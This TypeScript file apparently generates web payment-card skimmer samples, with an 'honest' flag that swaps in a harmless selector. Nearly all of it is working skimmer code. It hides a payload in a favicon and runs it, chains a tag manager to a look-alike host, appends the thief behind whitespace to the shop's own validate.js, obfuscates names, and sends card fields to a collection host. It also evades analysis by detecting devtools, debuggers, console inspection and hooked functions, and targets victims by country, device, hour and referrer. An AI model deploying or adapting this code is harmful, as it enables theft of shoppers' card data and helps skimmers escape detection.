import { core, onlyWhen } from './core.ts';
import { ON_PAY, type SkimmerVariant, takeCode } from './types.ts';

/** The code behind bytes that look like a picture: as thieves keep it in an icon. */
function picture(code: string): Buffer {
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    Buffer.from(`tEXtCopyright\0${Buffer.from(code).toString('base64')}\0IEND`, 'latin1'),
  ]);
}

/** The ways in which thieves keep out of sight. */
export const hiding: readonly SkimmerVariant[] = [
  {
    id: 'icon',
    idea: 'code kept in an icon, taken out and run',
    takes: ['card'],
    build: ({ collect, cdn }, honest) => ({
      files: { '/favicon.png': { type: 'image/png', body: picture(core(collect, honest)) } },
      script: `fetch('${cdn}/favicon.png').then((r) => r.text()).then((t) => { const m = t.split('Copyright\\0')[1].split('\\0')[0]; new Function(atob(m))(); });`,
    }),
  },
  {
    id: 'tag-chain',
    idea: 'a tag manager loads a tag that loads the thief',
    takes: ['card'],
    build: ({ collect, cdn, lookAlike }, honest) => ({
      files: {
        '/tags.js': {
          type: 'text/javascript',
          body: `const s = document.createElement('script'); s.src = '${lookAlike}/tag.js'; document.head.append(s);`,
        },
        '/tag.js': { type: 'text/javascript', body: core(collect, honest) },
      },
      html: `<script src="${cdn}/tags.js"></script>`,
    }),
  },
  {
    id: 'late',
    idea: 'begins only after forty seconds',
    takes: ['card'],
    build: ({ collect }, honest) => ({ script: `setTimeout(() => { ${core(collect, honest)} }, 40000);` }),
  },
  {
    id: 'sends-later',
    idea: 'keeps what was typed and sends it half a minute later',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: `(() => { ${takeCode(honest)} function send() { localStorage.setItem('_mgx', btoa(JSON.stringify(take()))); } ${ON_PAY} setInterval(() => { const v = localStorage.getItem('_mgx'); if (v) { localStorage.removeItem('_mgx'); fetch('${collect}/l?' + v, { mode: 'no-cors' }); } }, 30000); })();`,
    }),
  },
  onlyWhen('first-visit-only', 'only at the first visit', `!localStorage.getItem('seen') && (localStorage.setItem('seen', '1'), true)`),
  onlyWhen('second-visit-only', 'only for who comes again', `localStorage.getItem('seen') || (localStorage.setItem('seen', '1'), false)`),
  onlyWhen('phones-only', 'only on phones', `/Mobi|Android/.test(navigator.userAgent) && innerWidth < 600`),
  onlyWhen('nights-only', 'only late at night', `new Date().getHours() < 5`),
  onlyWhen(
    'one-country',
    'only for customers of one country, by language and clock',
    `navigator.language.startsWith('pl') && Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Warsaw'`,
  ),
  onlyWhen(
    'shy-of-console-cost',
    'not where writing a large table to the console takes long, as it does while somebody reads it',
    `(() => { const big = Array.from({ length: 50 }, () => Object.fromEntries(Array.from({ length: 500 }, (_, i) => [i, String(i)]))); const cost = (write) => { const t = performance.now(); write(); return performance.now() - t; }; const table = cost(() => console.table(big)); const log = cost(() => console.log(big)); console.clear(); return table <= 10 * Math.max(log, 1); })()`,
  ),
  onlyWhen(
    'shy-of-console-words',
    'not where somebody asks for the text of what is written to the console',
    `(() => { let asked = 0; const bait = () => 1; bait.toString = () => { asked += 1; return ''; }; console.log(bait); console.clear(); return asked < 2; })()`,
  ),
  onlyWhen('from-search-only', 'only for who comes from a search', `/google|bing/.test(document.referrer)`),
  onlyWhen(
    'shy-of-tools',
    'not while developer tools are open, nor for programs',
    `outerWidth - innerWidth < 160 && outerHeight - innerHeight < 160 && !navigator.webdriver`,
  ),
  onlyWhen(
    'shy-of-hooks',
    'not where functions of the browser were exchanged',
    `/native code/.test(Function.prototype.toString.call(Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value').get)) && /native code/.test(String(fetch)) && /native code/.test(String(console.log))`,
  ),
  {
    id: 'shy-of-console',
    idea: 'stops when a debugger slows it down',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: `(() => { let watched = false; setInterval(() => { const t = performance.now(); debugger; if (performance.now() - t > 100) watched = true; }, 1000); ${takeCode(honest)} function send() { if (!watched) new Image().src = '${collect}/i.gif?d=' + btoa(JSON.stringify(take())); } ${ON_PAY} })();`,
    }),
  },
  {
    id: 'in-the-shops-own-file',
    idea: 'appended to a file of the shop itself',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      shopFiles: {
        '/js/validate.js': {
          type: 'text/javascript',
          body: `window.validate = (form) => form.checkValidity();${' '.repeat(400)}${core(collect, honest)}`,
        },
      },
      html: '<script src="/js/validate.js"></script>',
    }),
  },
  {
    id: 'hidden-names',
    idea: 'obfuscated: texts in a list that is turned and read by number',
    takes: ['card'],
    build: ({ collect }, honest) => {
      const words = [
        'querySelector',
        honest ? 'title' : '[name=cc_number]',
        'value',
        `${collect}/i.gif?d=`,
        'addEventListener',
        'click',
        'src',
      ];
      const list = [...words.slice(3), ...words.slice(0, 3)].map(
        (word) => `'${[...word].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}'`,
      );
      const _ = '_0x';
      return {
        script: `var ${_}4a1f=[${list.join(',')}];(function(${_}1a,${_}2b){while(--${_}2b){${_}1a.push(${_}1a.shift());}}(${_}4a1f,0x5));var ${_}5c=function(${_}6d){return ${_}4a1f[${_}6d];};document[${_}5c(0x4)](${_}5c(0x5),function(){var ${_}7e=document[${_}5c(0x0)](${_}5c(0x1));new Image()[${_}5c(0x6)]=${_}5c(0x3)+btoa(${_}7e&&(${_}7e[${_}5c(0x2)]||${_}7e.textContent)||'');},true);`,
      };
    },
  },
];
